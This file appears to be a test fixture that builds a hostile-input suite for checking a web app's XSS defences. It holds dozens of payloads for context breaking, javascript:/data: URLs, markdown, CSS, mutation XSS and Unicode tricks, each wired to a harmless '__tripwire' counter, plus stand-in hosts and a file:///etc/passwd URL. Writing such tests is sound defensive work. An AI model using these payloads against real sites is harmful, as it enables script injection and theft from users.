/**
 * The hostile-input suite's payloads: the shared XSS corpus (test/fixtures/xss/payloads.json),
 * those of its `alert(...)` payloads that would run by themselves again calling `__tripwire(...)`
 * (a function the browser's init script defines, so a call is counted even where a dialog would
 * be blocked or missed), and what the corpus
 * lacks: attribute and context breaking (feeds, the flight data in inline scripts), website-shaped
 * URLs, more markdown and CSS tricks, mutation XSS, and Unicode (bidi overrides, zero-width and
 * full-width characters, lone surrogates, over-long text).
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { z } from 'zod';
import { ROOT } from './server';

export type Payload = { id: number; text: string; source: 'corpus' | 'tripwire-variant' | 'added' };

const SVG_TRIPWIRE_BASE64 = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="__tripwire(1)"/>').toString('base64');
const HTML_TRIPWIRE_BASE64 = Buffer.from('<script>parent.__tripwire(1)</script>').toString('base64');

/** Attribute, element and document-context breaking: HTML attributes, the Atom feed, inline script data. */
const contextBreaking = [
  '" onmouseover="__tripwire(1)" x="',
  "' onfocus='__tripwire(1)' autofocus='",
  '"><svg onload=__tripwire(1)>',
  "'><img src=x onerror=__tripwire(1)>",
  '` onerror=__tripwire(1) `',
  '"/><script>__tripwire(1)</script>',
  '</script><script>__tripwire(1)</script>',
  '</SCRIPT ><script>__tripwire(1)</script>',
  '<!--</script><script>__tripwire(1)</script>-->',
  '\u2028\u2029</script><script>__tripwire(1)</script>',
  '"]);__tripwire(1);//',
  '\\"]);__tripwire(1);//',
  '$L1:["$","script",null,{"children":"__tripwire(1)"}]',
  ']]><script>__tripwire(1)</script>',
  '</content><script xmlns="http://www.w3.org/1999/xhtml">__tripwire(1)</script>',
  '</name></author><x:script xmlns:x="http://www.w3.org/1999/xhtml">__tripwire(1)</x:script>',
  '<![CDATA[</content><x:script xmlns:x="http://www.w3.org/1999/xhtml">__tripwire(1)</x:script>]]>',
  '&lt;script&gt;__tripwire(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=__tripwire(1)&amp;gt;',
  '&#60;img src=x onerror=__tripwire(1)&#62;',
  '%3Cscript%3E__tripwire(1)%3C/script%3E',
  '<img src=x onerror=__tripwire(1) alt="<!--">',
  '<input value="x" onfocus=__tripwire(1) autofocus>',
  '<button popovertarget=p>x</button><div id=p popover onbeforetoggle=__tripwire(1)>y</div>',
];

/** Website-shaped: what the website field and links get, good and bad. */
const urls = [
  'javascript:__tripwire(1)',
  'JaVaScRiPt:__tripwire(1)',
  ' javascript:__tripwire(1)',
  'java\tscript:__tripwire(1)',
  'javascript&#58;__tripwire(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__tripwire(1)',
  '&#x6A;avascript:__tripwire(1)',
  'data:text/html,<script>__tripwire(1)</script>',
  `data:text/html;base64,${HTML_TRIPWIRE_BASE64}`,
  `data:image/svg+xml;base64,${SVG_TRIPWIRE_BASE64}`,
  'vbscript:msgbox(1)',
  'https://example.com/"onmouseover="__tripwire(1)',
  'https://example.com/<script>__tripwire(1)</script>',
  'https://example.com/#"><img src=x onerror=__tripwire(1)>',
  "https://example.com/?q='-__tripwire(1)-'",
  'https://exa mple.com/',
  'https://user:pass@example.com/',
  'https:example.com',
  '//evil.example/x',
  'https://ｅｘａｍｐｌｅ.com/ｐａｔｈ',
  'https://例子.测试/路径?问=<b>',
  'https://example.com/\u202Egnp.exe',
  'https://example\u200B.com/',
  'HTTPS://EXAMPLE.COM/A/../B/%7e?x=1#y',
  'https://example.com:99999/',
  'https://[::1]/',
  'http://127.0.0.1/',
  'https://example.com/%0d%0aSet-Cookie:x=1',
  'ｊａｖａｓｃｒｉｐｔ：__tripwire(1)',
  'java\u00ADscript:__tripwire(1)',
  'mailto:x@example.com?body=<script>__tripwire(1)</script>',
  'file:///etc/passwd',
];

const markdown = [
  '[x](javascript:__tripwire(1))',
  '[x](javas&#99;ript:__tripwire(1))',
  `[x](data:text/html;base64,${HTML_TRIPWIRE_BASE64})`,
  '![x](x" onerror="__tripwire(1))',
  '![x"onerror="__tripwire(1)](https://example.com/x.png)',
  '<javascript:__tripwire(1)>',
  '<https://example.com/"onmouseover="__tripwire(1)>',
  '[x][r]\n\n[r]: javascript:__tripwire(1)',
  '[x][r]\n\n[r]: <javascript:__tripwire(1)> "t"',
  `![x][i]\n\n[i]: data:image/svg+xml;base64,${SVG_TRIPWIRE_BASE64}`,
  '[x](https://example.com/ \'a" onmouseover="__tripwire(1)\')',
  '[<img src=x onerror=__tripwire(1)>](https://example.com/)',
  '`<script>__tripwire(1)</script>`',
  '```html\n<script>__tripwire(1)</script>\n```',
  '    <script>__tripwire(1)</script>',
  'www.example.com/<script>__tripwire(1)</script>',
  'https://example.com/<img src=x onerror=__tripwire(1)>',
  '[x](mailto:javascript:__tripwire(1))',
  'see[^1]\n\n[^1]: <script>__tripwire(1)</script>',
  '| a | b |\n|---|---|\n| <img src=x onerror=__tripwire(1)> | [x](javascript:__tripwire(1)) |',
  '- [ ] <input type=checkbox onclick=__tripwire(1)>',
  '[a](https://a.example/) [b](https://b.example/) [c](https://c.example/) [d](https://d.example/) <script>__tripwire(1)</script>',
  '*a <img src=x onerror=__tripwire(1)> b*',
  '<details open ontoggle=__tripwire(1)>\n\n**markdown inside**\n\n</details>',
];

const css = [
  '<div style="background:url(javascript:__tripwire(1))">x</div>',
  '<div style="width:expression(__tripwire(1))">x</div>',
  '<p style="behavior:url(#default#time2)" onbegin=__tripwire(1)>x</p>',
  '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>',
  '<style>@import "javascript:__tripwire(1)";</style>',
  '<link rel=stylesheet href="data:text/css,*{background:url(javascript:__tripwire(1))}">',
  '<span style="position:fixed;inset:0;z-index:99999;background:red">overlay</span>',
  '<style>@keyframes k{}</style><x style="animation-name:k" onanimationstart=__tripwire(1)>',
  '<x style="transition:color 1s" ontransitionend=__tripwire(1)>x</x>',
  '<svg><style>*{background:url(javascript:__tripwire(1))}</style></svg>',
  '<div style="background-image:u\\72l(javascript:__tripwire(1))">x</div>',
];

const mutation = [
  '<noscript><p title="</noscript><img src=x onerror=__tripwire(1)>">',
  '<noscript><style></noscript><img src=x onerror=__tripwire(1)>',
  '<template><img src=x onerror=__tripwire(1)></template>',
  '<svg><p><style><img src=x onerror=__tripwire(1)></style></p></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__tripwire(1)>',
  '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=__tripwire(1) src>">',
  '<svg></p><style><a id="</style><img src=1 onerror=__tripwire(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__tripwire(1)>',
  '<textarea><noscript></textarea><img src=x onerror=__tripwire(1)></noscript>',
  '<iframe srcdoc="<script>parent.__tripwire(1)</script>"></iframe>',
  '<svg><foreignObject><script>__tripwire(1)</script></foreignObject></svg>',
  '<svg><a xlink:href="javascript:__tripwire(1)"><text y=20>x</text></a></svg>',
  '<svg><set attributeName=onload to=__tripwire(1) />',
  '<!--<img src="--><img src=x onerror=__tripwire(1)//">',
  '<?xml-stylesheet href="javascript:__tripwire(1)"?>',
  '<a href="&#x6A;avascript:__tripwire(1)">x</a>',
  '<svg><desc><template><style><img src=x onerror=__tripwire(1)></style></template></desc></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=__tripwire(1)></style></annotation-xml></math>',
  '<select><iframe></select><img src=x onerror=__tripwire(1)>',
  '<table><caption><svg><title><img src=x onerror=__tripwire(1)>',
];

const unicode = [
  'evil\u202Etxt.exe',
  '\u202E<script>__tripwire(1)</script>',
  '\u2066isolate\u2069 \u2067rtl\u2069 \u061Cmark \u202Aembed\u202C',
  'a\u200Bb\u200Cc\u200Dd\uFEFFe',
  '\u200B\u200C\u200D',
  '\u00AD\u200B',
  '＜script＞__tripwire(1)＜/script＞',
  '＜img src=x onerror=__tripwire(1)＞',
  '\uFE64script\uFE65__tripwire(1)\uFE64/script\uFE65',
  '\uD800',
  '\uDFFF',
  'name \uD83D',
  '\uDE00<script>__tripwire(1)</script>',
  'a\uD800b\uDC00c',
  '\u0000<img src=x onerror=__tripwire(1)>',
  'nul\u0000name',
  'bell\u0007 tab\t vt\u000B del\u007F c1\u0085\u009B',
  'e\u0301\u0301\u0301',
  '\u0301\u0302\u0303',
  '\u3000\u3000',
  '<scr\u200Bipt>__tripwire(1)</scr\u200Bipt>',
  '<\u0455cript>__tripwire(1)</\u0455cript>',
  '\u{1D4C8}\u{1D4B8}\u{1D4C7}\u{1D4BE}\u{1D4C5}\u{1D4C9} <\u{1D4C8}\u{1D4B8}>',
  '\u{E0041}\u{E0042}tag characters',
  'line\u2028separator\u2029paragraph',
  '\r\n\r\n<script>__tripwire(1)</script>\r',
  'Ａ\u0308 ﬁ Ω Å',
  'Ｊａｖａｓｃｒｉｐｔ：__tripwire(1)',
  '\u180Ejava\u180Escript:__tripwire(1)',
  '\uFFFE\uFFFF\u{10FFFF}',
  '\u{20000}'.repeat(50),
  '\u{20000}'.repeat(51),
  '👨‍👩‍👧‍👦'.repeat(12),
  `${'x'.repeat(5000)}`,
  `${'x'.repeat(5001)}`,
  ' \t\n ',
  '',
];

/**
 * Corpus payloads that could only run when a reader clicks, hovers or a template engine evaluates
 * them (links, handlers of pointer and focus changes, template syntax) get no tripwire variant: the
 * variants are for what would run by itself, where a call the dialog listener misses could hide.
 */
const NEEDS_A_CLICK = /\]\(|\]:|href|onclick|onmouse|onpointer|formaction|action=|^<[a-z]*:|^javascript:|\{\{|\$\{|#\{|onblur|title=/i;

/** The corpus as it is, unchanged. */
export function readCorpus(): string[] {
  const file = path.join(ROOT, 'test', 'fixtures', 'xss', 'payloads.json');
  return z.array(z.string()).parse(JSON.parse(readFileSync(file, 'utf8')));
}

/** Every payload of the suite, distinct, numbered in a fixed order. */
export function hostilePayloads(): Payload[] {
  const corpus = readCorpus();
  const variants = corpus.filter((text) => /alert\(/.test(text) && !NEEDS_A_CLICK.test(text)).map((text) => text.replace(/alert\(/g, '__tripwire('));
  const added = [...contextBreaking, ...urls, ...markdown, ...css, ...mutation, ...unicode];
  const seen = new Set<string>();
  const payloads: Payload[] = [];
  const add = (text: string, source: Payload['source']) => {
    if (seen.has(text)) return;
    seen.add(text);
    payloads.push({ id: payloads.length, text, source });
  };
  for (const text of corpus) add(text, 'corpus');
  for (const text of variants) add(text, 'tripwire-variant');
  for (const text of added) add(text, 'added');
  return payloads;
}
